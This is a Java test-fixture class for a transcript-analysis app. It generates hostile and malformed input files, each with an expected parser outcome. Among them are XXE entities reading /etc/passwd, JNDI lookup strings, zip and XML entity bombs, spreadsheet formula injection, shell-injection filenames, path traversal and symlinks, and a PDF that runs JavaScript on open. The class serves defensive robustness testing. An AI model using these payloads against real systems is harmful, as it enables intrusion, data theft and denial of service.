package org.colloquy.app;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Hostile and broken files, each with its expected outcome. */
final class HostileInputs {
  private static final String TALK = "ANA LUND, HOST: Good day.\n\nPIET BROCK: Good day, Ana.\n";
  private static final String W =
      "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

  private final List<Input> inputs = new ArrayList<>();

  /** The address of a server that must never be asked for anything. */
  private final String server;

  private HostileInputs(String server) {
    this.server = server;
  }

  interface Maker {
    void make(Path file) throws IOException;
  }

  /**
   * A hostile file.
   *
   * @param path below the data folder, as the reports show it except for an apostrophe in front
   * @param outcome expected status, followed by a comma and the start of the expected reason
   */
  record Input(String name, String outcome, Maker maker) {}

  static List<Input> all(String server) {
    HostileInputs all = new HostileInputs(server);
    all.bytes();
    all.texts();
    all.markdown();
    all.html();
    all.word();
    all.pdf();
    all.documents();
    all.markup();
    all.captions();
    all.json();
    all.tables();
    all.names();
    all.links();
    return List.copyOf(all.inputs);
  }

  private void add(String name, String outcome, Maker maker) {
    inputs.add(new Input(name, outcome, maker));
  }

  private void add(String name, String outcome, byte[] content) {
    add(name, outcome, file -> Files.write(file, content));
  }

  private void add(String name, String outcome, String content) {
    add(name, outcome, content.getBytes(StandardCharsets.UTF_8));
  }

  private void bytes() {
    byte[] random = new byte[50_000];
    new Random(1).nextBytes(random);
    add("b empty.txt", "not a transcript, empty", "");
    add("b blank.txt", "not a transcript, empty", " \n\t\u00A0\n");
    add("b zeros.txt", "not a transcript, not text", new byte[4096]);
    add("b random.txt", "not a transcript, not text", random);
    add("b program.txt", "not a transcript, not text", "\u007FELF\u0002\u0001\u0001\0\0\0");
    add("b nul in talk.txt", "not a transcript, not text", TALK + "\0");
    add(
        "b utf16 cut.txt",
        "analysed",
        cut(("\uFEFF" + TALK.repeat(20)).getBytes(StandardCharsets.UTF_16LE)));
    add(
        "b utf32.txt",
        "not a transcript, not text",
        ("\uFEFF" + TALK).getBytes(Charset.forName("UTF-32LE")));
    add(
        "b overlong utf8.txt",
        "analysed",
        concat(TALK.getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC0, (byte) 0xAF}));
    add(
        "b lone surrogates.txt",
        "analysed",
        ("\uFEFF" + TALK.repeat(20) + "\uD800 \uDC00 \uD800").getBytes(StandardCharsets.UTF_16BE));
    add("b music.mp3", "skipped, no reader", random);
    add("b program.exe", "skipped, no reader", "MZ");
    add("b 100 MB line.txt", "failed, is larger than 50 MB", HostileInputs::hundredMegabytes);
  }

  private void texts() {
    add(
        "t 1 MB line.txt",
        "analysed",
        "ANA LUND, HOST: Yes. PIET\n\nPIET BROCK: " + "word ".repeat(200_000) + ".\n");
    add(
        "t long label.txt",
        "not a transcript, no speaker",
        "A".repeat(1_000_000) + ": Good day.\n");
    add("t colons.txt", "not a transcript, no speaker", "a:".repeat(500_000));
    add("t many labels.txt", "analysed", manyLabels());
    add("t line feeds.txt", "analysed", TALK + "\n".repeat(1_000_000) + "ANA LUND: Bye.\n");
    add("t carriage returns.txt", "analysed", TALK.replace('\n', '\r'));
    add("t brackets.txt", "analysed", TALK + "ANA LUND: " + "(".repeat(200_000) + "\n");
    add("t square brackets.txt", "analysed", TALK + "[".repeat(100_000) + "]".repeat(100_000));
    add("t combining.txt", "analysed", TALK + "ANA LUND: e" + "\u0301".repeat(5_000) + "\n");
    add(
        "t terminal.txt",
        "analysed",
        TALK.repeat(20) + "ANA LUND: \u001B]0;owned\u0007 and \u001B[2J so on, \u009B31m\u007F.\n");
    add(
        "t right to left.txt",
        "analysed",
        TALK + "ANA LUND: \u202Etxt.exe\u202C and \u2066more.\n");
    add(
        "t formula label.txt",
        "not a transcript, no speaker",
        "=CMD|' /C CALC'!A0: Good day.\n\n+1 BROCK: Good day.\n\n=CMD|' /C CALC'!A0: Yes.\n");
    add(
        "t formulas.txt",
        "analysed",
        "ANA LUND, HOST: =1+1\n\nPIET BROCK: @SUM(A1)\n\nANA LUND: -2+3\n\nPIET BROCK: =HYPERLINK(\""
            + server
            + "\")\n");
    add(
        "t quotes.txt",
        "analysed",
        "ANA LUND, HOST: \"\"\",\"\n\nPIET BROCK: '\"; DROP TABLE turns; --\n");
    add(
        "t html in text.txt",
        "analysed",
        "ANA LUND, HOST: <script>alert(1)</script>\n\nPIET BROCK: <img src=" + server + ">\n");
    add(
        "t names of files.txt",
        "analysed",
        "ANA LUND, HOST: ../../../etc/passwd\n\nPIET BROCK: C:\\con\\aux %00 ${jndi:ldap://"
            + server
            + "}\n");
    add("t form feeds.txt", "analysed", TALK.replace("\n\n", "\f\f\n\u000B\n"));
    add("t private use.txt", "analysed", TALK + "ANA LUND: \uE000\uFFFF\uFFFE.\n");
  }

  private void markdown() {
    add("m quotes.md", "not a transcript, no speaker", ">".repeat(100_000) + " hello\n");
    add("m bomb.md", "analysed", "---\na: &a [x,x,x,x,x,x,x,x,x]\n" + yamlBomb() + "---\n" + TALK);
    add(
        "m object.md",
        "analysed",
        "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URL [\""
            + server
            + "\"]]\n---\n"
            + TALK);
    add(
        "m links.md",
        "not a transcript, no speaker",
        "[".repeat(50_000) + "x" + "](" + server + ")".repeat(50_000));
  }

  private void html() {
    String paragraphs = "<p>ANA LUND, HOST: Good day.</p><p>PIET BROCK: Good day, Ana.</p>";
    add(
        "h script.html",
        "analysed",
        "<script>document.write('EVE: I said this.')</script>" + paragraphs);
    add(
        "h script alone.html",
        "not a transcript, no speaker",
        "<script>ANA LUND: Hi.\n\nPIET BROCK: Hi.</script>");
    add("h deep.html", "not a transcript, no speaker", "<div>".repeat(100_000) + "ANA LUND: Hi.");
    add(
        "h unclosed.html",
        "analysed",
        "<html><body" + " a=b".repeat(10_000) + ">" + paragraphs + "<p");
    add(
        "h entities.html",
        "analysed",
        "<!DOCTYPE x [<!ENTITY a \""
            + server
            + "\"><!ENTITY b SYSTEM \"file:///etc/passwd\">]>"
            + paragraphs
            + "<p>ANA LUND: &a;&b;</p>");
    add(
        "h fetch.html",
        "analysed",
        "<meta http-equiv=refresh content='0;url="
            + server
            + "'><link rel=stylesheet href="
            + server
            + "><base href="
            + server
            + "><iframe src="
            + server
            + "></iframe><img src="
            + server
            + ">"
            + paragraphs);
    add(
        "h nul.htm",
        "not a transcript, not text",
        "<p>ANA LUND, HOST:\0 Good day.</p><p>PIET BROCK: Hi.</p>");
    add("h charset.html", "analysed", "<meta charset=utf-7>" + paragraphs);
    add("h attribute.html", "analysed", "<p title='" + "x".repeat(2_000_000) + "'>" + paragraphs);
  }

  private void word() {
    String body = paragraph("ANA LUND, HOST: Good day.") + paragraph("PIET BROCK: Good day, Ana.");
    add("w no zip.docx", "failed, is not a Word document", TALK);
    add("w empty.docx", "not a transcript, empty", "");
    add("w empty zip.docx", "failed, is not a Word document", zip());
    add("w cut.docx", "failed, is not a Word document", cut(docx("", body)));
    add(
        "w old.docx",
        "failed, is protected by a password",
        new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0, 0});
    add(
        "w bomb.docx",
        "failed, is not a Word document",
        zip("word/document.xml", new byte[250 << 20]));
    add(
        "w bomb beside.docx",
        "failed, is not a Word document",
        docx("", body, "word/media/x.bin", new byte[250 << 20]));
    add(
        "w entities.docx",
        "failed, is not a Word document",
        docx(
            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b SYSTEM \""
                + server
                + "\">]>",
            paragraph("ANA LUND, HOST: &a;&b;")));
    add(
        "w billion laughs.docx",
        "failed, is not a Word document",
        docx(
            "<!DOCTYPE x [<!ENTITY a \"ha\">" + laughs() + "]>", paragraph("ANA LUND, HOST: &z;")));
    add(
        "w out of the folder.docx",
        "analysed",
        docx("", body, "../../../evil.txt", new byte[] {1}));
    add(
        "w linked.docx",
        "analysed",
        docx(
            "",
            body,
            "word/_rels/document.xml.rels",
            ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\""
                    + server
                    + "/t.dotm\" TargetMode=\"External\"/></Relationships>")
                .getBytes(StandardCharsets.UTF_8)));
    add(
        "w deep.docx",
        "failed, is not a Word document",
        docx(
            "",
            "<w:sdt><w:sdtContent>".repeat(20_000)
                + body
                + "</w:sdtContent></w:sdt>".repeat(20_000)));
  }

  private void documents() {
    String body = "<text:p>ANA LUND, HOST: Good day.</text:p><text:p>PIET BROCK: Hi.</text:p>";
    add("d text.odt", "analysed", zip("content.xml", odt("", body)));
    add("d no zip.odt", "failed, is not an OpenDocument text", TALK);
    add(
        "d bomb.odt",
        "failed, is not an OpenDocument text",
        zip("content.xml", odt("", body), "Pictures/x", new byte[250 << 20]));
    add(
        "d entities.odt",
        "failed, is not an OpenDocument text",
        zip(
            "content.xml",
            odt("<!DOCTYPE x [<!ENTITY a SYSTEM \"" + server + "\">]>", body + "&a;")));
    add("d no zip.xlsx", "failed, is not a workbook", TALK);
    add("d bomb.xlsx", "failed, is not a workbook", zip("xl/workbook.xml", new byte[250 << 20]));
    add("d no zip.epub", "failed, is not an electronic book", TALK);
    add("d garbage.doc", "failed, is not a document of Word", TALK);
    add("d deep.rtf", "failed, is not an RTF document", "{\\rtf1 " + "{".repeat(500_000) + TALK);
    add("d binary.rtf", "failed, is not an RTF document", "{\\rtf1 \\bin2147483647 " + TALK);
    add("d mere braces.rtf", "failed, is not an RTF document", "}".repeat(100_000));
  }

  private static byte[] odt(String prolog, String body) {
    String content =
        prolog
            + "<o:document-content xmlns:o='o' xmlns:text='t'><o:body><o:text>"
            + body
            + "</o:text></o:body></o:document-content>";
    return content.getBytes(StandardCharsets.UTF_8);
  }

  private void markup() {
    String body = "<TEI><u who='#ana'>Good day, are you there?</u><u who='#piet'>I am.</u>";
    add(
        "m linked.trs",
        "analysed",
        "<!DOCTYPE Trans SYSTEM \""
            + server
            + "/trans.dtd\"><Trans><Turn speaker='a'>Are you there?</Turn><Turn speaker='b'>I am.</Turn></Trans>");
    add(
        "m entities.xml",
        "failed, is not XML",
        "<!DOCTYPE TEI [<!ENTITY a SYSTEM \"" + server + "\">]>" + body + "<u>&a;</u></TEI>");
    add(
        "m billion laughs.tei",
        "failed, is not XML",
        "<!DOCTYPE TEI [<!ENTITY a \"ha\">" + laughs() + "]>" + body + "<u>&z;</u></TEI>");
    add(
        "m included.xml",
        "analysed",
        body
            + "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='"
            + server
            + "'/></TEI>");
    add("m deep.eaf", "failed, is not XML", "<a>".repeat(200_000));
    add("m attribute.ttml", "not a transcript", "<tt a='" + "x".repeat(2_000_000) + "'/>");
    add(
        "m many intervals.TextGrid",
        "not a transcript",
        "File type = \"ooTextFile\"\n\"TextGrid\"\n\"IntervalTier\" \"A\" 0 1 999999999 0 1 \"\"");
    add("m brackets.cha", "not a transcript", "@Begin\n*ANA:\t" + "[<".repeat(500_000));
    add("m times.lrc", "not a transcript", "[00:01.00]".repeat(200_000));
  }

  private void pdf() {
    add("p garbage.pdf", "failed", "%PDF-1.7\n" + "x".repeat(1000));
    add("p no pdf.pdf", "failed", TALK);
    add("p empty.pdf", "not a transcript, empty", "");
    add("p bomb.pdf", "failed, has no text layer", pdf("/Filter /FlateDecode", deflated(50 << 20)));
    add(
        "p script.pdf",
        "failed, has no text layer",
        pdf("", "BT ET".getBytes(StandardCharsets.US_ASCII)));
    add(
        "p ring of pages.pdf",
        "failed, has no text layer",
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF");
  }

  private void captions() {
    add(
        "c times.vtt",
        "analysed",
        "WEBVTT\n\n99:99:99.999 --> -1:00.000\n<v Ana>Hi.\n\n00:00.000 --> 00:01.000\n<v Piet>Hi.\n");
    add(
        "c tags.vtt",
        "analysed",
        "WEBVTT\n\n00:00.000 --> 00:01.000\n" + "<v Ana>".repeat(50_000) + "Hi.\n");
    add(
        "c cues.vtt",
        "not a transcript",
        "WEBVTT\n\n" + "00:00.000 --> 00:01.000\n\n".repeat(50_000));
    add(
        "c number.srt",
        "analysed",
        "9".repeat(100_000) + "\n00:00:00,000 --> 00:00:01,000\nANA: Hi.\n");
    add("c empty.srt", "not a transcript, empty", "");
  }

  private void json() {
    add("j deep.json", "failed, is not valid JSON", "[".repeat(200_000));
    add("j deep objects.json", "failed, is not valid JSON", "{\"a\":".repeat(200_000));
    add("j cut.json", "failed, is not valid JSON", "{\"segments\": [{\"text\": \"Hi");
    add(
        "j number.json",
        "analysed",
        "{\"segments\":[{\"text\":\"Hi\",\"speaker\":\"A\",\"start\":1e999999999}]}");
    add("j digits.json", "failed, is not valid JSON", "{\"a\":" + "9".repeat(100_000) + "}");
    add(
        "j class.json",
        "analysed",
        "{\"@class\":\"javax.script.ScriptEngineManager\",\"segments\":[{\"speaker\":\"A\",\"text\":\"Hi.\"},{\"speaker\":\"B\",\"text\":\"Hi.\"}]}");
    add(
        "j controls.json",
        "analysed",
        "[{\"speaker\":\"\\u001b[2J\",\"text\":\"\\u0000\\u0007 hello\"},{\"speaker\":\"=1+1\",\"text\":\"=2+2\"}]");
    add("j nothing.json", "not a transcript, no speech found in its JSON", "null");
  }

  private void tables() {
    add(
        "v quote.csv",
        "failed, has a cell whose closing quotation mark",
        "speaker,text\nAna,\"Hi" + "x".repeat(100_000));
    add("v columns.csv", "analysed", "speaker,text" + ",x".repeat(100_000) + "\nAna,Hi\n");
    add("v formulas.csv", "analysed", "speaker,text\n=1+1,\"=cmd|' /C calc'!A0\"\n@Piet,+1\n");
    add("v nul.csv", "not a transcript, not text", "speaker,text\nAna,\0\n");
  }

  private void names() {
    for (String name :
        List.of(
            "n line\nbreak.txt",
            "n return\rreturn.txt",
            "n \u001B[31mred.txt",
            "n \"quoted\", and comma.txt",
            "n $(touch owned) `touch owned`;touch owned.txt",
            "n %s%n%x.txt",
            "n " + "long".repeat(60) + ".txt",
            "n \u202Etxt.exe.txt",
            "=cmd|' _C calc'!A0.txt",
            "+1.txt",
            "@SUM(A1).txt",
            "-rf.txt",
            "n \uD83D\uDE00.txt",
            "n/a..txt/talk..txt.txt")) {
      add(name, "analysed", TALK);
    }
    add("n folder.docx/talk.txt", "analysed", TALK);
  }

  private void links() {
    String out = "failed, is a link to a place outside";
    add("l password.txt", out, file -> Files.createSymbolicLink(file, Path.of("/etc/passwd")));
    add("l outside.txt", out, file -> Files.createSymbolicLink(file, outside(file)));
    add(
        "l folder outside.txt",
        out,
        file -> Files.createSymbolicLink(file, outside(file).getParent()));
    add(
        "l dangling.txt",
        "failed, cannot be read",
        file -> Files.createSymbolicLink(file, Path.of("nowhere")));
    add(
        "l itself.txt",
        "failed, cannot be read",
        file -> Files.createSymbolicLink(file, file.getFileName()));
    add("l inside.txt", "analysed", file -> Files.createSymbolicLink(file, Path.of("-rf.txt")));
    add("l pipe.txt", "failed, cannot be read", HostileInputs::pipe);
  }

  private static Path outside(Path file) {
    return file.getParent().resolveSibling("outside/secret.txt");
  }

  private static void pipe(Path file) throws IOException {
    try {
      new ProcessBuilder("mkfifo", file.toString()).start().waitFor();
    } catch (InterruptedException e) {
      throw new IOException(e);
    }
  }

  private static void hundredMegabytes(Path file) throws IOException {
    try (RandomAccessFile large = new RandomAccessFile(file.toFile(), "rw")) {
      large.writeBytes(TALK);
      large.setLength(100 << 20);
    }
  }

  private static String manyLabels() {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 1_000; i++) {
      text.append("PERSON ")
          .append(Integer.toString(i % 2_500, 26).replaceAll("\\d", "Z"))
          .append(": Hi, are you there? I am.\n\n");
    }
    return text.toString();
  }

  private static String yamlBomb() {
    StringBuilder bomb = new StringBuilder();
    for (char c = 'b'; c < 'k'; c++) {
      bomb.append(c).append(": &").append(c).append(" [");
      bomb.append(("*" + (char) (c - 1) + ",").repeat(9)).append("]\n");
    }
    return bomb.toString();
  }

  private static String laughs() {
    StringBuilder laughs = new StringBuilder();
    for (char c = 'b'; c <= 'z'; c++) {
      laughs.append("<!ENTITY ").append(c).append(" \"");
      laughs.append(("&" + (char) (c - 1) + ";").repeat(10)).append("\">");
    }
    return laughs.toString();
  }

  private static String paragraph(String text) {
    return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>";
  }

  /** Makes a Word document with this body and more parts, given as a name, its bytes, and so on. */
  private static byte[] docx(String prolog, String body, Object... more) {
    String types =
        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/>"
            + "<Default Extension=\"txt\" ContentType=\"text/plain\"/>"
            + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    String relations =
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\""
            + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>";
    String document =
        "<?xml version=\"1.0\"?>"
            + prolog
            + "<w:document "
            + W
            + "><w:body>"
            + body
            + "</w:body></w:document>";
    List<Object> parts =
        new ArrayList<>(
            List.of(
                "[Content_Types].xml",
                types.getBytes(StandardCharsets.UTF_8),
                "_rels/.rels",
                relations.getBytes(StandardCharsets.UTF_8),
                "word/document.xml",
                document.getBytes(StandardCharsets.UTF_8)));
    parts.addAll(List.of(more));
    return zip(parts.toArray());
  }

  private static byte[] zip(Object... parts) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (int i = 0; i < parts.length; i += 2) {
        zip.putNextEntry(new ZipEntry((String) parts[i]));
        zip.write((byte[]) parts[i + 1]);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static byte[] deflated(int zeros) {
    Deflater deflater = new Deflater();
    deflater.setInput(new byte[zeros]);
    deflater.finish();
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    byte[] buffer = new byte[1 << 16];
    while (!deflater.finished()) {
      bytes.write(buffer, 0, deflater.deflate(buffer));
    }
    deflater.end();
    return bytes.toByteArray();
  }

  /** Makes a PDF of one page with this content, which runs a script when it is opened. */
  private static byte[] pdf(String filter, byte[] content) {
    byte[] head =
        ("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
                + "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
                + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
                + "4 0 obj<</Length "
                + content.length
                + filter
                + ">>stream\n")
            .getBytes(StandardCharsets.US_ASCII);
    byte[] tail =
        "\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF".getBytes(StandardCharsets.US_ASCII);
    return concat(concat(head, content), tail);
  }

  private static byte[] cut(byte[] bytes) {
    return java.util.Arrays.copyOf(bytes, bytes.length * 2 / 3 | 1);
  }

  private static byte[] concat(byte[] one, byte[] other) {
    byte[] both = java.util.Arrays.copyOf(one, one.length + other.length);
    System.arraycopy(other, 0, both, one.length, other.length);
    return both;
  }
}
